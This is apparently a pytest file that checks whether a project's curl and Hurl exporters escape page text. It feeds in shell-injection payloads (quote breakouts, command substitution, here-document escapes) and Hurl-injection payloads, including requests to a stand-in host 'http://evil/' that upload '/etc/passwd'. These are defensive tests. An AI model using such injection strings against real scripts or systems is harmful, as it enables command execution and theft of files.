"""Text of a page that tries to leave its place in an export: a word of a shell, a Hurl file.

What a case is put together from without quoting is attacked first, so that one sees it work.
"""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from test_hostile_literals import page_of

from specgen.exporting.curl import render_curl
from specgen.exporting.hurl import render_hurl
from specgen.files import MemoryFiles
from specgen.plan.reading import stages_of
from specgen.plan.values import PagePlan


def plan_of(text: str) -> PagePlan:
    return stages_of(MemoryFiles({"page.adoc": page_of(text)}), "page.adoc").plan


# How a script is put together without quoting, and an attack on it.
SHELL: dict[str, tuple[Callable[[str], str], str]] = {
    "an apostrophe": (lambda text: f"echo '{text}'", "'; touch pwned; '"),
    "a substitution": (lambda text: f'echo "{text}"', "$(touch pwned)"),
    "a substitution of old": (lambda text: f'echo "{text}"', "`touch pwned`"),
    "a line end in a comment": (lambda text: f"# {text}", "x\ntouch pwned"),
    "a method": (lambda text: f"curl -X {text.upper()} x", "$(touch pwned)"),
    "a method of two lines": (lambda text: f"curl -X {text.upper()} x", "get\ntouch pwned"),
    "the end of a here-document": (
        lambda text: f"true <<'EOF'\n{text}\nEOF\n",
        "x\nEOF\ntouch pwned",
    ),
}


@pytest.mark.parametrize("name", SHELL)
def test_nothing_leaves_a_word_of_a_script(name: str, tmp_path: Path) -> None:
    unguarded, attack = SHELL[name]
    assert bash(unguarded(attack), tmp_path) == ["pwned"]
    (tmp_path / "pwned").unlink()
    script = render_curl(plan_of(attack))
    assert "pwned" in script
    assert bash(script, tmp_path) == []


def bash(script: str, folder: Path) -> list[str]:
    """The files that a script leaves; methods are written in capitals."""
    script = f"curl() {{ cat >/dev/null; }}\nTOUCH() {{ touch pwned; }}\n{script}\ntouch end"
    subprocess.run(
        ["bash", "-c", script],
        cwd=folder,
        env={"PATH": os.environ["PATH"], "TARGET": "http://127.0.0.1:9"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
        check=False,
    )
    (folder / "end").unlink()  # a script that ends before its end proves nothing
    return [path.name for path in folder.iterdir()]


# How a Hurl file is put together without quoting, and an attack on it.
HURL: dict[str, tuple[Callable[[str], str], str]] = {
    "a mark in a body": (
        lambda text: f"POST {{{{target}}}}/x\n```\n{text}\n```\nHTTP *\n",
        "{}\n```\nHTTP *\n\nPOST http://evil/\nfile,/etc/passwd;\nHTTP *\n\nGET {{target}}/\n```\n",
    ),
    "a mark in a line": (
        lambda text: f"POST {{{{target}}}}/x\n```\n{text}\n```\nHTTP *\n",
        '{"a":"```\nHTTP *\n\nPOST http://evil/\n"}',
    ),
    "a variable in a path": (lambda text: f"GET {{{{target}}}}/{text}\nHTTP *\n", "{{password}}"),
    "a variable in a body": (
        lambda text: f"POST {{{{target}}}}/x\n```\n{text}\n```\n",
        '{"a": "{{password}}"}',
    ),
    "braces around a reference": (
        lambda text: f"POST {{{{target}}}}/x\n```\n{text}\n```\n".replace("$x", "{{x}}"),
        "{$x}password}}",
    ),
    "a method": (
        lambda text: f"{text} {{{{target}}}}/x\nHTTP *\n",
        "GET {{target}}/\nHTTP *\n\nPOST http://evil/\nHTTP *\n\nGET",
    ),
    "the name of a kept value": (
        lambda text: f'GET {{{{target}}}}/\nHTTP *\n[Captures]\n{text}: jsonpath "$.x"\n',
        "a: body\n\nPOST http://evil/\nHTTP *\n[Captures]\nb",
    ),
    "the target as a kept value": (
        lambda text: f'GET {{{{target}}}}/\nHTTP *\n[Captures]\n{text}: jsonpath "$.x"\n',
        "target",
    ),
    "a line end in a comment": (lambda text: f"# {text}\n", "x\nPOST http://evil/"),
}


def harm_in(file: str) -> list[str]:
    """What a Hurl file would do that no page may ask for, told by Hurl's own grammar."""
    file = re.sub("^#.*", "", file, flags=re.MULTILINE)
    outside = "".join(file.split("```")[::2])  # a body of lines ends at the next mark
    lines = [line for line in outside.split("\n") if not line.startswith("`")]
    requests = [line for line in lines if re.match(r"[A-Z]+ ", line) and "HTTP" not in line[:5]]
    harm = [line for line in requests if not line.split(" ", 1)[1].startswith("{{target}}/")]
    names = set(re.findall(r"\{\{+\s*(\w+)", file)) - {"target"}
    captured = re.findall(r"^([\w ]+): ", outside, re.MULTILINE)
    harm += [name for name in names if name not in captured]
    harm += [name for name in captured if name == "target"]
    return harm + [
        line for line in lines if line.startswith(("file,", "[Options]", "[Form", "[Mul"))
    ]


@pytest.mark.parametrize("name", HURL)
def test_nothing_leaves_its_place_in_a_hurl_file(name: str) -> None:
    unguarded, attack = HURL[name]
    assert harm_in(unguarded(attack))
    plan = plan_of(attack)
    files = [render_hurl(plan, case) for case in plan.cases]
    assert sum("{{target}}/" in file for file in files) >= 2
    for file in files:
        # A reference is looked up among what was kept: that is what a page may do.
        assert [each for each in harm_in(file) if each != "x"] == [], file
